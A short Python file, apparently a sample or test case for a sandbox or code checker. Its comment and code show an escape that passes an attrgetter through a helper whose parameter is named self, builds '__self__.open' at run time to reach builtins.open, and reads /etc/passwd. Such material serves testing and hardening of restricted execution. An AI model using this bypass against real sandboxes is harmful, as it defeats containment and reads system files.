# family: computed
# Escape: `self.__class__` is allowed whenever the receiver is *named* self; a module-level helper with a parameter
# called self returns the class of anything it is given. Given an attrgetter it returns the attrgetter class,
# which follows "__self__.open" (built at run time) from print to builtins.open, reading a file.
import operator


def kind(self):
    return self.__class__


def tool(path: str = "/etc/passwd", word: str = "self") -> str:
    getter = kind(operator.attrgetter("real"))
    reader = getter("__" + word + "__.open")(print)
    return reader(path).read()
